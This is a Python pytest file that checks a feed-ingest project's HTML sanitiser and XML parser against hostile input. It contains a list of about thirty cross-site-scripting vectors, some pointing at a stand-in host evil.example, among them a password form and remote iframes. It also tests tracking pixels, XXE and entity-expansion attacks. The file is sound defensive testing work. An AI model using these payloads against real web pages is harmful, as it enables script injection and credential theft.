"""Hostile and broken feeds: feedparser's own fixtures through our ingest, its sanitiser
fixtures and a list of XSS vectors through our nh3 policy, tracking pixels, and XML attacks.
"""

from __future__ import annotations

import sys
import tempfile
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import attacks
from dispatch.errors import ParseError
from dispatch.ingest.parse import ParsedFeed, parse_feed
from dispatch.ingest.sanitize import clean_html
from dispatch.models import FeedUpdate, Route
from dispatch.store.core import Store
from feedparser_fixtures import SDIST, Report, fixtures, run
from helpers.prepared import needs
from helpers.project import ROOT
from helpers.servers import FeedServer

sys.path.insert(0, str(ROOT / "bench"))
import corpus as bench_corpus

NOW = datetime(2026, 11, 27, 3, tzinfo=UTC)

ALLOWED_SCHEMES = ("http://", "https://", "mailto:")


@cache
def corpus() -> Report:
    needs("feedparser's source (its test fixtures)", SDIST.exists())
    return run(fixtures())


@pytest.mark.slow
def test_feedparsers_fixtures_never_crash_the_ingest() -> None:
    report = corpus()
    crashed = [f"{o.path}: {o.detail}" for o in report.outcomes if o.status == "crashed"]
    assert crashed == []
    assert len(report.outcomes) > 2000
    assert report.count("accepted") > 1500  # most of them are good feeds
    rejected = [o for o in report.outcomes if o.status == "rejected"]
    # Every rejection says why, by the feed's name.
    assert rejected and all(o.detail.startswith(f"feed {o.path!r}: ") for o in rejected)


def dangers(fragment: str) -> list[str]:
    """What in sanitised HTML could run, style, track or leave the allowed schemes."""
    if not fragment.strip():
        return []
    found = []
    root = lxml.html.fragment_fromstring(fragment, create_parent="div")
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in {"script", "style", "iframe", "object", "embed", "form", "svg", "math"}:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name.lower() == "style":
                found.append(f"{element.tag} {name}={value!r}")
            if name in {"href", "src"} and not value.strip().lower().startswith(ALLOWED_SCHEMES):
                found.append(f"{element.tag} {name}={value!r}")
        if element.tag == "a" and element.get("rel") != "noopener noreferrer nofollow":
            found.append(f"a rel={element.get('rel')!r}")
    return found


def test_feedparsers_sanitiser_fixtures_leave_nothing_that_runs() -> None:
    outcomes = [o for o in corpus().outcomes if o.path.startswith("wellformed/sanitize/")]
    assert len(outcomes) > 700
    problems = []
    for outcome in outcomes:
        for article in outcome.articles:
            for danger in dangers(article.html):
                problems.append(f"{outcome.path}: {danger}")
            if "<" in article.title and "<script" in article.title.lower():
                problems.append(f"{outcome.path}: title {article.title!r}")
    assert problems == []


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg/onload=alert(1)>",
    "<BODY ONLOAD=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="behavior: url(xss.htc);">x</p>',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example/" onmouseover="alert(1)" target="_top">ok</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<base href="https://evil.example/">',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
]


@pytest.mark.parametrize("vector", XSS)
def test_xss_vectors_come_out_inert(vector: str) -> None:
    cleaned = clean_html(f"<p>before</p>{vector}<p>after</p>")
    assert dangers(cleaned) == [], cleaned
    assert cleaned.startswith("<p>before</p>")  # what came before the vector survives


@pytest.mark.parametrize(
    "pixel",
    [
        '<img src="https://t.example/p.gif" width="1" height="1">',
        "<img src=https://t.example/p.gif width=1 height=1>",
        '<img src="https://t.example/p.gif" width="0" height="0" alt="">',
        '<img src="https://t.example/p.gif" style="width:1px;height:1px">',
        '<img src="https://t.example/p.gif" style="display:none">',
        '<IMG SRC="https://t.example/p.gif" HEIGHT="1" WIDTH="1" BORDER="0">',
    ],
)
def test_tracking_pixels_are_dropped_in_every_spelling(pixel: str) -> None:
    cleaned = clean_html(
        f'<p>text {pixel}<img src="https://news.example/photo.jpg" width="10"></p>'
    )
    assert "t.example" not in cleaned and "photo.jpg" in cleaned


MB = 1_048_576


@pytest.mark.slow
def test_billion_laughs_and_the_quadratic_blow_up_are_not_expanded() -> None:
    for body in (attacks.billion_laughs(), attacks.quadratic_blowup()):
        result, _, peak = attacks.measure(body)
        assert isinstance(result, ParsedFeed)
        (article,) = result.articles
        assert "lollol" not in article.title and "AAAA" not in article.title
        assert peak < 16 * MB, f"{peak / MB:.1f} MB"


def test_xxe_never_reads_a_local_file(tmp_path: Path) -> None:
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-7f3a", encoding="utf-8")
    result, _, _ = attacks.measure(attacks.xxe(canary))
    assert isinstance(result, ParsedFeed)
    assert "CANARY" not in repr(result)


def test_external_dtds_and_parameter_entities_make_no_connection(server: FeedServer) -> None:
    for body in (attacks.external_dtd(server.base), attacks.parameter_entity(server.base)):
        result, _, _ = attacks.measure(body)
        assert isinstance(result, ParsedFeed) and len(result.articles) == 1
    assert server.requests == []


# Pieces that broke a parser somewhere: character references to no character, broken
# encodings and URLs, stray markup, odd dates and numbers, YouTube embeds and links.
NASTY = [
    b"&#xD800;", b"&#56319;", b"&#x110000;", b"&#99999999999999999999;", b"&#0;", b"&#x00041;",
    b"<![CDATA[", b"]]>", b"\x00", b"\xff\xfe", b"\xed\xa0\x80", b"\xf1", b"<", b">", b"&", b'"',
    b'<?xml version="1.0" encoding="utf-16"?>', b"<!DOCTYPE rss [<!ENTITY x 'C:\\data'>]>",
    b'xml:base="http://[x/"', b"http://[x", b"http://a.example:99999/", b"//[::1", b"[", b"]",
    b"<link>http://[x</link>", b'<link href="https://[www.youtube.com/watch?v=dQw4w9WgXcQ"/>',
    b"&lt;iframe src=&quot;https://[www.youtube.com/embed/dQw4w9WgXcQ&quot;&gt;",
    b"<enclosure url='http://[x' length='-1' type='image/jpeg'/>",
    b"<media:thumbnail url='http://a:999999/x'/>", b"<guid>http://[x</guid>",
    b"<pubDate>Fri, 31 Dec 9999 23:59:59 -1400</pubDate>",
    b"<updated>2026-02-30T10:00:00Z</updated>",
    b"<georss:where><gml:Point srsName='EPSG:x'><gml:pos>1 2</gml:pos></gml:Point></georss:where>",
    b"<author><name>&#xD800;</name></author>", b"<category term='&#x110000;'/>", b"caf\xe9",
]  # fmt: skip


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(
    kind=st.sampled_from(sorted(bench_corpus.RENDER)),
    edits=st.lists(
        st.tuples(st.floats(0, 1), st.sampled_from(NASTY) | st.binary(min_size=1, max_size=3)),
        min_size=1,
        max_size=4,
    ),
    fast=st.booleans(),
)
def test_a_mangled_feed_is_read_or_refused_never_raised(
    kind: str, edits: list[tuple[float, bytes]], fast: bool
) -> None:
    """One feed must never stop a poll: whatever its bytes, it is read and stored, or it is
    refused with its name and a reason.
    """
    feed = bench_corpus.Feed(kind, 0)  # every generator, of both mixes
    body = bytearray(bench_corpus.RENDER[kind](feed, 0, 3).encode())
    for where, piece in edits:
        at = int(where * len(body))
        body[at:at] = piece
    with tempfile.TemporaryDirectory() as folder:
        store = Store.open(Path(folder) / "state.db")
        try:
            parsed = parse_feed("f", bytes(body), url="https://example.org/feed", fast=fast)
        except ParseError as refused:
            parsed, reason = None, refused.describe()
        if parsed is None:
            assert reason.startswith("feed 'f': ") and len(reason) > len("feed 'f': ")
        else:
            store.record_poll(
                FeedUpdate(
                    feed="f",
                    url="https://example.org/feed",
                    etag=None,
                    last_modified=None,
                    body_hash="",
                    new=parsed.articles,
                    routes=[Route()] * len(parsed.articles),
                ),
                NOW,
                NOW,
            )
            stored = store.known("f", [article.key for article in parsed.articles])
            assert len(stored.keys) == len(parsed.articles)
        store.close()
